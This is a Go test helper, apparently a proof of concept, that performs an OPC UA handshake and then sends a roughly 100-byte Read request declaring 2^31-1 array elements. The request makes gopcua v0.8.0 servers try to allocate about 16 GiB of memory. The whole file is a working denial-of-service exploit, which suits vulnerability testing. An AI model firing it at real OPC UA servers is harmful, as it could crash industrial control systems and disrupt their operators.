package opcuatest

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"time"

	"github.com/gopcua/opcua/id"
	"github.com/gopcua/opcua/ua"
)

// HugeArrayLength is the array length HugeArrayRead declares: the largest
// gopcua v0.8.0's decoder accepts (ua/decode.go decodeSlice refuses only
// lengths above it). It allocates the whole array before reading a single
// element: 2^31-1 pointers are 16 GiB.
const HugeArrayLength = 1<<31 - 1

// HugeArrayRead connects to the OPC UA server at addr (host:port), opens a
// secure channel (security None, no session needed) and sends one Read
// request of about 100 bytes whose NodesToRead array declares
// HugeArrayLength elements and holds none. It returns once the request
// is sent, with the first 4 bytes the server answered after it ("MSGF",
// "ERRF") or "" when the connection closed or stayed silent for wait.
func HugeArrayRead(addr, endpointURL string, wait time.Duration) (string, error) {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	// HEL -> ACK.
	hel := make([]byte, 32+len(endpointURL))
	copy(hel, "HELF")
	binary.LittleEndian.PutUint32(hel[4:], uint32(len(hel)))
	for i, v := range []uint32{0, 65535, 65535, 0, 0, uint32(len(endpointURL))} {
		binary.LittleEndian.PutUint32(hel[8+4*i:], v)
	}
	copy(hel[32:], endpointURL)
	if _, err := c.Write(hel); err != nil {
		return "", err
	}
	if typ, _, err := readMessage(c); err != nil || typ != "ACKF" {
		return "", fmt.Errorf("HEL answered %q: %v", typ, err)
	}
	hdr := &ua.RequestHeader{AuthenticationToken: ua.NewTwoByteNodeID(0), Timestamp: time.Now(), RequestHandle: 1,
		TimeoutHint: 10000, AdditionalHeader: ua.NewExtensionObject(nil)}
	// OPN (security None) -> the channel and token IDs.
	opn, err := ua.Encode(&ua.OpenSecureChannelRequest{RequestHeader: hdr, RequestType: ua.SecurityTokenRequestTypeIssue,
		SecurityMode: ua.MessageSecurityModeNone, RequestedLifetime: 600000})
	if err != nil {
		return "", err
	}
	asym := ua.NewBuffer(nil)
	asym.WriteString(ua.SecurityPolicyURINone)
	asym.WriteByteString(nil)
	asym.WriteByteString(nil)
	body := append(asym.Bytes(), seqHeader(1)...)
	body = append(append(body, typeID(id.OpenSecureChannelRequest_Encoding_DefaultBinary)...), opn...)
	if _, err := c.Write(message("OPNF", 0, body)); err != nil {
		return "", err
	}
	typ, resp, err := readMessage(c)
	if err != nil || typ != "OPNF" {
		return "", fmt.Errorf("OPN answered %q: %v", typ, err)
	}
	b := ua.NewBuffer(resp[4:]) // after the channel ID
	b.ReadString()
	b.ReadBytes()
	b.ReadBytes()
	b.ReadN(8) // sequence header
	var tid ua.ExpandedNodeID
	n, err := tid.Decode(resp[4+b.Pos():])
	if err != nil {
		return "", fmt.Errorf("OPN response: %v", err)
	}
	var osr ua.OpenSecureChannelResponse
	if _, err := ua.Decode(resp[4+b.Pos()+n:], &osr); err != nil || osr.SecurityToken == nil {
		return "", fmt.Errorf("OPN response: %v", err)
	}
	channel, token := osr.SecurityToken.ChannelID, osr.SecurityToken.TokenID
	// The Read request; NodesToRead is its last field.
	hdr.RequestHandle = 2
	read, err := ua.Encode(&ua.ReadRequest{RequestHeader: hdr, TimestampsToReturn: ua.TimestampsToReturnBoth})
	if err != nil {
		return "", err
	}
	binary.LittleEndian.PutUint32(read[len(read)-4:], HugeArrayLength)
	sym := binary.LittleEndian.AppendUint32(nil, token)
	body = append(append(sym, seqHeader(2)...), typeID(id.ReadRequest_Encoding_DefaultBinary)...)
	if _, err := c.Write(message("MSGF", channel, append(body, read...))); err != nil {
		return "", err
	}
	c.SetDeadline(time.Now().Add(wait))
	typ, _, _ = readMessage(c)
	return typ, nil
}

func seqHeader(n uint32) []byte {
	return binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(nil, n), n)
}

func typeID(n uint32) []byte {
	b, _ := ua.NewFourByteNodeID(0, uint16(n)).Encode()
	return b
}

// message frames body as one final chunk of type typ on channel.
func message(typ string, channel uint32, body []byte) []byte {
	m := make([]byte, 12, 12+len(body))
	copy(m, typ)
	binary.LittleEndian.PutUint32(m[4:], uint32(12+len(body)))
	binary.LittleEndian.PutUint32(m[8:], channel)
	return append(m, body...)
}

// readMessage reads one UACP message: its type and what follows the size.
func readMessage(c net.Conn) (string, []byte, error) {
	h := make([]byte, 8)
	if _, err := io.ReadFull(c, h); err != nil {
		return "", nil, err
	}
	n := binary.LittleEndian.Uint32(h[4:])
	if n < 8 || n > 1<<20 {
		return string(h[:4]), nil, fmt.Errorf("message size %d", n)
	}
	b := make([]byte, n-8)
	_, err := io.ReadFull(c, b)
	return string(h[:4]), b, err
}
